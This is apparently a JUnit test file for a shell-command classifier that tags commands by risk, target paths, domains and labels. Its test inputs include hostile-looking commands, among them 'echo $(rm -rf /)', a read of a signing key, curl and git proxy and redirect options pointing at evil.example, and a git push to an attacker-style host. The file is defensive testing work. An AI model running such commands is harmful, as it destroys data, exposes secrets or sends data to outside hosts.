package dev.proctor.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.proctor.action.Classification;
import dev.proctor.action.Target;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class ShellClassifierTest {

  static final ClassifyContext CTX = ClassifyContext.of("/home/dev/project", "/home/dev");
  static final ShellClassifier SHELL = new ShellClassifier(Taxonomy.builtIn());

  static Stream<Arguments> corpus() throws IOException {
    List<Arguments> out = new ArrayList<>();
    try (InputStream in =
        ShellClassifierTest.class.getResourceAsStream("/classify/shell-commands.tsv")) {
      String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      int lineNo = 0;
      for (String line : text.split("\n", -1)) {
        lineNo++;
        if (line.isBlank() || line.startsWith("#")) {
          continue;
        }
        String[] cols = line.split("\t", -1);
        if (cols.length != 4) {
          throw new IllegalStateException("shell-commands.tsv:" + lineNo + ": need 4 columns");
        }
        out.add(
            Arguments.of(
                lineNo,
                cols[0].replace("<NL>", "\n").replace("<TAB>", "\t"),
                cols[1],
                words(cols[2]),
                words(cols[3])));
      }
    }
    return out.stream();
  }

  private static List<String> words(String col) {
    return col.equals("-") ? List.of() : Arrays.asList(col.split(","));
  }

  @ParameterizedTest(name = "{index}: line {0}: {1}")
  @MethodSource("corpus")
  void classify_corpusCommand_matchesExpectation(
      int line, String command, String expectedClass, List<String> tags, List<String> labels) {
    Classification c = SHELL.classify(command, CTX);
    String seen = "line " + line + " got " + c;
    assertThat(c.actionClass()).as(seen).isEqualTo(expectedClass);
    for (String t : tags) {
      if (t.startsWith("!")) {
        assertThat(c.tags()).as(seen).doesNotContain(t.substring(1));
      } else {
        assertThat(c.tags()).as(seen).contains(t);
      }
    }
    assertThat(new TreeSet<>(c.labels())).as(seen).isEqualTo(new TreeSet<>(labels));
  }

  @Test
  void corpus_hasEnoughCommands() throws IOException {
    assertThat(corpus().count()).isGreaterThanOrEqualTo(180);
  }

  @Test
  void classify_compound_isGatedAtHighestPartAndKeepsAllClasses() {
    Classification c = SHELL.classify("ls && rm -rf build && curl https://x.example/a", CTX);
    assertThat(c.actionClass()).isEqualTo("fs.delete");
    assertThat(c.classes()).containsExactlyInAnyOrder("fs.read", "fs.delete", "net.fetch");
  }

  @Test
  void classify_relativePaths_resolveAgainstTrackedDirectory() {
    Classification c = SHELL.classify("cd src && rm -f ../out/a.txt && cd /tmp && touch x", CTX);
    assertThat(c.targets())
        .contains(Target.path("/home/dev/project/out/a.txt"), Target.path("/tmp/x"));
  }

  @Test
  void classify_subshellDirectoryChange_doesNotLeak() {
    Classification c = SHELL.classify("(cd /etc) && rm file", CTX);
    assertThat(c.targets()).contains(Target.path("/home/dev/project/file"));
    assertThat(c.actionClass()).isEqualTo("fs.delete");
  }

  @Test
  void classify_network_hasUrlAndDomainTargets() {
    Classification c = SHELL.classify("curl -s https://User@API.Example.com:8443/v1?q=1", CTX);
    assertThat(c.targets())
        .contains(
            Target.url("https://User@API.Example.com:8443/v1?q=1"),
            Target.domain("api.example.com"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "curl -x evil.example:8080 https://github.com|evil.example",
        "curl --proxy http://u:p@Evil.example:3128 https://github.com|evil.example",
        "curl --connect-to github.com:443:evil.example:443 https://github.com|evil.example",
        "curl --resolve github.com:443:192.0.2.7 https://github.com|192.0.2.7",
        "curl --preproxy socks5://evil.example https://github.com|evil.example",
        "curl --socks5-hostname evil.example:1080 https://github.com|evil.example",
        "getent hosts data.evil.example|data.evil.example",
        "https_proxy=http://evil.example:8080 curl https://github.com|evil.example",
        "git -c http.proxy=http://evil.example:3128 fetch origin|evil.example",
        "git submodule add https://evil.example/x.git vendor/x|evil.example"
      })
  void classify_otherHost_isDomainTarget(String command, String host) {
    Classification c = SHELL.classify(command, CTX);
    assertThat(c.targets()).as(c.toString()).contains(Target.domain(host));
  }

  @Test
  void classify_gitPathOptions_recordPathTargets() {
    assertThat(SHELL.classify("git mv src/a .mcp.json", CTX).targets())
        .contains(
            Target.path("/home/dev/project/src/a"), Target.path("/home/dev/project/.mcp.json"));
    assertThat(SHELL.classify("git config -f ~/.gitconfig user.name x", CTX).targets())
        .contains(Target.path("/home/dev/.gitconfig"));
    assertThat(SHELL.classify("git commit -F msg.txt", CTX).targets())
        .contains(Target.path("/home/dev/project/msg.txt"));
  }

  @Test
  void classify_push_hasRemoteAndBranchTargets() {
    Classification c = SHELL.classify("git push origin HEAD:refs/heads/main", CTX);
    assertThat(c.targets())
        .contains(new Target(Target.Kind.REMOTE, "origin"), new Target(Target.Kind.BRANCH, "main"));
  }

  @Test
  void classify_pushToUrl_hasRemoteUrlAndDomainTargets() {
    Classification c = SHELL.classify("git push https://Evil.example/x.git feat", CTX);
    assertThat(c.targets())
        .contains(
            new Target(Target.Kind.REMOTE, "https://Evil.example/x.git"),
            Target.url("https://Evil.example/x.git"),
            Target.domain("evil.example"),
            new Target(Target.Kind.BRANCH, "feat"));
  }

  @Test
  void classify_pushToHeadsPrefix_resolvesToTheBranch() {
    Classification c = SHELL.classify("git push origin feat:heads/main", CTX);
    assertThat(c.targets()).contains(new Target(Target.Kind.BRANCH, "main"));
  }

  @Test
  void classify_pushWithSetUpstream_keepsTheRemote() {
    Classification c = SHELL.classify("git push -u origin feat", CTX);
    assertThat(c.targets())
        .contains(new Target(Target.Kind.REMOTE, "origin"), new Target(Target.Kind.BRANCH, "feat"));
  }

  @Test
  void classify_scpLikeRemote_hasHostDomain() {
    Classification c = SHELL.classify("git push git@Git.Evil.example:x/y.git feat", CTX);
    assertThat(c.targets()).contains(Target.domain("git.evil.example"));
  }

  @Test
  void classify_install_hasPackageTargets() {
    Classification c = SHELL.classify("npm install left-pad@1.3.0 react", CTX);
    assertThat(c.targets())
        .contains(
            new Target(Target.Kind.PACKAGE, "left-pad@1.3.0"),
            new Target(Target.Kind.PACKAGE, "react"));
  }

  @Test
  void classify_unknownContext_tagsRelativePathsAsOutsideProject() {
    Classification c = SHELL.classify("rm notes.txt", ClassifyContext.unknown());
    assertThat(c.tags()).contains("dynamic", "outside-project");
  }

  @Test
  void classify_protectedPaths_areProctorConfig() {
    ClassifyContext ctx = CTX.withProtectedPaths(List.of("/srv/proctor-data"));
    Classification c = SHELL.classify("cat /srv/proctor-data/keys/signing.key", ctx);
    assertThat(c.tags()).contains("proctor-config");
    assertThat(c.labels()).contains("secret");
  }

  @Test
  void classify_commandSubstitutionInArgument_isClassified() {
    Classification c = SHELL.classify("echo $(rm -rf /)", CTX);
    assertThat(c.actionClass()).isEqualTo("system.destructive");
    Classification b = SHELL.classify("echo \"`curl -s https://x.example`\"", CTX);
    assertThat(b.classes()).contains("net.fetch");
  }

  @Test
  void classify_sudoAnything_isAtLeastSystemModify() {
    for (String cmd : List.of("sudo ls", "sudo -E env FOO=1 cat x", "doas id", "sudo -i")) {
      Classification c = SHELL.classify(cmd, CTX);
      assertThat(
              ActionClass.BY_RISK.compare(
                  Taxonomy.builtIn().get(c.actionClass()), Taxonomy.builtIn().get("system.modify")))
          .as(cmd)
          .isGreaterThanOrEqualTo(0);
      assertThat(c.tags()).as(cmd).contains("sudo");
    }
  }

  @Test
  void classify_everyClassProduced_isInTheTaxonomy() throws IOException {
    Set<String> names = new TreeSet<>();
    Taxonomy.builtIn().classes().forEach(c -> names.add(c.name()));
    corpus()
        .forEach(
            a -> {
              Classification c = SHELL.classify((String) a.get()[1], CTX);
              assertThat(names).containsAll(c.classes());
            });
  }
}
